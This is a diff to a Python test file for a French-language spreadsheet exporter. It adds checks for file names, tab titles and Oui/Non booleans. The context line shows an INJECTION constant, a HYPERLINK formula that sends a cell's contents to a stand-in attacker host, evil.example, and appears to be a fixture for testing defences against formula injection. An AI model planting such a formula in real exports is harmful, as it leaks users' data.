@@ -22,12 +22,14 @@ INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
 
 
 def expected_row(school: School) -> list[Any]:
-    """What a school's row shows in the exported file (choices as labels, booleans, text)."""
+    """What a school's row shows in the exported file (choices as labels, booleans as Oui/Non like the screen)."""
     out: list[Any] = []
     for column in SCHOOLS.columns:
         value = getattr(school, column.field)
         if column.kind == "choice":
             value = column.choice_label(getattr(value, "value", value))
+        if column.kind == "boolean":
+            value = "Oui" if value else "Non"
         if column.kind == "datetime":
             value = None  # compared separately (seconds rounding)
         out.append(value if value != "" else None)
@@ -259,3 +261,24 @@ async def test_keyset_pages_on_choice_boolean_and_datetime_columns(db: str, tmp_
     assert exporter._keyset_ok(SCHOOLS, terms)
     expected = await School.all().order_by(*terms).values_list("uai", flat=True)
     assert [r[0] for r in read_calamine(target)[1:]] == list(expected)
+
+
+async def test_exports_speak_french_file_name_tab_and_booleans(db: str, tmp_path: Path) -> None:
+    """Issue 15: `parc-appareils-2024-09-12.xlsx`, a tab without double spaces, Oui/Non as on screen, years plain."""
+    import datetime as dt
+
+    from sheets.engine.declaration import get_sheet
+    from sheets.engine.exporter import _title, export_filename, xlsx_columns
+
+    devices, calendar = get_sheet("devices"), get_sheet("calendar")
+    assert export_filename(devices, dt.date(2024, 9, 12)) == "parc-appareils-2024-09-12.xlsx"
+    assert export_filename(get_sheet("schools"), dt.date(2024, 9, 12)) == "etablissements-2024-09-12.xlsx"
+    assert _title(devices) == "Parc appareils"
+    kinds = {c.header: (c.kind, c.choices) for c in xlsx_columns(calendar)}
+    assert kinds["Campagne"][0] == "number" and kinds["N°"][0] == "number"  # 2024, not 2 024
+    assert {c.header: c.kind for c in xlsx_columns(devices)}["Office"] == "choice"
+    await make_school(csn_deployed=True)
+    target = tmp_path / "x.xlsx"
+    await export_sheet(SCHOOLS, target)
+    header, rows, _info = read_openpyxl(target)
+    assert rows[0][header.index("CSN déployé")] == "Oui" and rows[0][header.index("Wi-Fi dans le MDM")] == "Non"
